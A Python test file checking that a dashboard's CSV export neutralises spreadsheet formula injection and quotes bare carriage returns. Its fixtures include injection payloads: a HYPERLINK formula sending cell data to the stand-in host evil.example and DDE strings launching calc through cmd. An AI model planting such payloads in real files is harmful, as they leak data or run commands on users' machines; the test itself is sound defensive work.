"""Every CSV the product writes is safe to open in a spreadsheet (issue 17): text that
starts like a formula is neutralised, a bare carriage return is quoted, numbers stay
numbers. Checked through the CLI and through `csv_text`, which the app's downloads use."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl

from dashboard.cli import main
from dashboard.output import csv_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def parse(text: str) -> list[list[str]]:
    return [r for r in csv.reader(io.StringIO(text, newline="")) if r]


def test_csv_text_neutralises_formulas_and_quotes_carriage_returns() -> None:
    frame = pl.DataFrame(
        {
            "subject": [*HOSTILE, "line one\rline two", "plain"],
            "minutes": [-5.5, -1.0, 0.0, 1.0, 2.0, 3.0, 4.0],
        }
    )
    rows = parse(csv_text(frame))
    assert rows[0] == ["subject", "minutes"]
    assert [r[0] for r in rows[1:6]] == ["'" + h for h in HOSTILE]
    assert rows[6][0] == "line one\rline two"  # one field, not a broken record
    assert rows[7] == ["plain", "4.0"]
    assert [r[1] for r in rows[1:3]] == ["-5.5", "-1.0"]  # numbers are not prefixed
    assert len(rows) == 8


def test_a_formula_in_an_analyst_alias_is_neutralised_too() -> None:
    rows = parse(csv_text(pl.DataFrame({"=1+1": ["x"]})))
    assert rows[0] == ["'=1+1"]


def test_cli_csv_of_hostile_ticket_fields(tmp_path: Path, capsys) -> None:
    teams = ['=HYPERLINK("http://evil.example")', "@SUM(1)", "+cmd|' /C calc'!A0"]
    lines = ["Ticket ID,Team,Priority,Status,Created,Resolved"]
    lines += [
        f'T{i},"{t.replace(chr(34), chr(34) * 2)}",high,solved,2026-03-02 10:00,2026-03-02 12:00'
        for i, t in enumerate(teams)
    ]
    f = tmp_path / "t.csv"
    f.write_text("\n".join(lines) + "\n")
    db = tmp_path / "w.duckdb"
    assert main(["ingest", str(f), "--db", str(db)]) == 0
    capsys.readouterr()
    assert main(["metrics", "--db", str(db), "--by", "team", "--format", "csv"]) == 0
    rows = parse(capsys.readouterr().out)
    got = sorted(r[rows[0].index("service_team")] for r in rows[1:])
    assert got == sorted("'" + t for t in teams)
    assert all(r[rows[0].index("median_resolution_minutes")] == "120.0" for r in rows[1:])
